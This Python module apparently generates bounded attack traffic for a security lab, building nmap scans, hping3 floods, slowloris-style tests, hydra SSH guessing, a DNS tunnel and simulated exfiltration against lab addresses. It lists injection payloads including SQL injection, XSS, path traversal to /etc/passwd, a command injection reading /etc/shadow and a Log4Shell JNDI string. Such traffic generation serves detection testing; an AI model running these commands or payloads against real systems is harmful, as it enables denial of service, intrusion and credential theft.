"""Command lines of attacks. Each tool bounds its rate and ends by itself, or is ended in time."""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

from hawser.probe.attacks.servers import TUNNEL_DOMAIN, TUNNEL_SECRET, TUNNEL_SERVER, URLS
from hawser.spec.attack import AttackKind

Command = tuple[str, ...]

_PIECE: Final = 30_000
"""Bytes of a piece that is sent out."""
_SCANNING: Final = 0.7
"""Share of its time that a scan's packets take; the rest is for its answers."""
_CONNECTIONS: Final = 40
"""Open connections of a slow attack."""


@dataclass(frozen=True)
class Attack:
    """What is known when an attack begins."""

    address: str
    """Of the target: one of the lab's."""
    seconds: float
    rate: int
    """Packets per second at most."""
    chance: random.Random

    @property
    def packets(self) -> int:
        """As many as fit into the time."""
        return max(1, round(self.seconds * self.rate))

    @property
    def gap_us(self) -> int:
        """Microseconds between two packets."""
        return max(1, round(1e6 / self.rate))


@dataclass(frozen=True)
class Tools:
    """What runs for an attack."""

    command: Command
    files: Mapping[str, bytes]
    """Files in its folder, by name."""
    then: Command = ()
    """A second command, which begins when the first one has made `interface`."""
    interface: str = ""


def tools_of(kind: AttackKind, attack: Attack) -> Tools:
    """Give the commands of an attack and the files that they read."""
    return _MAKERS[kind](attack)


def programs(kinds: Sequence[AttackKind]) -> tuple[str, ...]:
    """Programs that attacks start, each once."""
    return tuple(dict.fromkeys(program for kind in kinds for program in PROGRAMS[kind]))


def _scan(flag: str, most: int) -> Callable[[Attack], Tools]:
    def make(attack: Attack) -> Tools:
        count = min(most, max(1, round(_SCANNING * attack.packets)))
        first = attack.chance.randrange(1, 8000)
        ports = f"22,80,{first}-{first + count - 1}"
        limits = ("--max-rate", str(attack.rate), "--max-retries", "0", "--disable-arp-ping")
        return Tools(("nmap", flag, "-n", "-Pn", *limits, "-p", ports, attack.address), {})

    return make


def _flood(*given: str) -> Callable[[Attack], Tools]:
    def make(attack: Attack) -> Tools:
        size = str(attack.chance.randrange(64, 512))
        words = (size if word == "SIZE" else word for word in given)
        bounds = ("-q", "-c", str(attack.packets), "-i", f"u{attack.gap_us}")
        return Tools(("hping3", *bounds, *words, attack.address), {})

    return make


def _slow(flag: str) -> Callable[[Attack], Tools]:
    def make(attack: Attack) -> Tools:
        count = _CONNECTIONS + attack.chance.randrange(_CONNECTIONS)
        bounds = ("-c", str(count), "-r", str(count), "-l", str(max(1, round(attack.seconds))))
        pace = ("-i", "1", "-x", str(attack.chance.randrange(8, 24)), "-p", "2")
        url = f"http://{attack.address}{attack.chance.choice(URLS)}"
        return Tools(("slowhttptest", flag, *bounds, *pace, "-u", url), {})

    return make


def _guess(attack: Attack) -> Tools:
    words = "".join(f"wrong-{attack.chance.getrandbits(48):012x}\n" for _ in range(2000))
    options = ("-I", "-l", "root", "-P", "words", "-t", "4")
    return Tools(("hydra", *options, f"ssh://{attack.address}"), {"words": words.encode()})


_INJECTIONS: Final = (
    "id=1' OR '1'='1",
    "id=1; DROP TABLE users--",
    "id=-1 UNION SELECT {n},user,password FROM users",
    "id=1 AND SLEEP({n})",
    "q=<script>alert({n})</script>",
    "q=<img src=x onerror=alert({n})>",
    "file=../../../../../../etc/passwd",
    "file=....//....//....//proc/{n}/environ",
    "host=127.0.0.1;cat /etc/shadow",
    "name=${{jndi:ldap://10.0.0.{n}/a}}",
)


def _inject(attack: Attack) -> Tools:
    count = max(5, round(attack.seconds * min(20, attack.rate / 10)))
    urls = [_injected(attack) for _ in range(count)]
    settings = "".join(f'url = "{url}"\noutput = "/dev/null"\n' for url in urls)
    pace = ("--rate", f"{round(count / attack.seconds * 60)}/m")
    agent = ("-A", f"sqlmap/1.{attack.chance.randrange(9)}", "-H", "Connection: close")
    return Tools(("curl", "-s", "-g", *pace, *agent, "-K", "urls"), {"urls": settings.encode()})


def _injected(attack: Attack) -> str:
    text = attack.chance.choice(_INJECTIONS).format(n=attack.chance.randrange(1, 255))
    name, _, value = text.partition("=")
    page = attack.chance.choice(URLS)
    return f"http://{attack.address}{page}?{name}={quote(value)}"


def _tunnel(attack: Attack) -> Tools:
    interface = "tunnel"
    options = ("-f", "-r", "-P", TUNNEL_SECRET, "-m", "500", "-I", "1", "-d", interface)
    command = ("iodine", *options, attack.address, TUNNEL_DOMAIN)
    # A file's bytes would do as well; echoes fill both directions, and their rate is exact.
    size, gap = attack.chance.randrange(100, 400), f"{max(0.02, 1 / attack.rate):.3f}"
    echo = ("ping", "-q", "-i", gap, "-s", str(size), TUNNEL_SERVER)
    return Tools(command, {}, echo, interface)


def _exfiltrate(attack: Attack) -> Tools:
    count = max(3, round(attack.seconds * 5))
    piece = attack.chance.randbytes(_PIECE)
    urls = "".join(
        f'url = "http://{attack.address}/upload/piece-{number}"\nupload-file = "piece"\n'
        f'output = "/dev/null"\n'
        for number in range(count)
    )
    command = ("curl", "-s", "--rate", f"{round(count / attack.seconds * 60)}/m", "-K", "urls")
    return Tools(command, {"piece": piece, "urls": urls.encode()})


_MAKERS: Final[Mapping[AttackKind, Callable[[Attack], Tools]]] = {
    AttackKind.SYN_SCAN: _scan("-sS", 2000),
    AttackKind.CONNECT_SCAN: _scan("-sT", 2000),
    AttackKind.UDP_SCAN: _scan("-sU", 200),
    AttackKind.SYN_FLOOD: _flood("-S", "-p", "80"),
    AttackKind.UDP_FLOOD: _flood("--udp", "-k", "-p", "53", "-d", "SIZE"),
    AttackKind.ICMP_FLOOD: _flood("--icmp", "-d", "SIZE"),
    AttackKind.SLOW_HEADERS: _slow("-H"),
    AttackKind.SLOW_BODY: _slow("-B"),
    AttackKind.PASSWORD_GUESSING: _guess,
    AttackKind.HTTP_INJECTION: _inject,
    AttackKind.DNS_TUNNEL: _tunnel,
    AttackKind.EXFILTRATION: _exfiltrate,
}

PROGRAMS: Final[Mapping[AttackKind, tuple[str, ...]]] = {
    AttackKind.SYN_SCAN: ("nmap",),
    AttackKind.CONNECT_SCAN: ("nmap",),
    AttackKind.UDP_SCAN: ("nmap",),
    AttackKind.SYN_FLOOD: ("hping3",),
    AttackKind.UDP_FLOOD: ("hping3",),
    AttackKind.ICMP_FLOOD: ("hping3",),
    AttackKind.SLOW_HEADERS: ("slowhttptest", "nginx"),
    AttackKind.SLOW_BODY: ("slowhttptest", "nginx"),
    AttackKind.PASSWORD_GUESSING: ("hydra", "sshd", "ssh-keygen"),
    AttackKind.HTTP_INJECTION: ("curl", "nginx"),
    AttackKind.DNS_TUNNEL: ("iodine", "iodined", "ping"),
    AttackKind.EXFILTRATION: ("curl", "nginx"),
}
"""Programs of an attack, those of the server that it needs among them."""
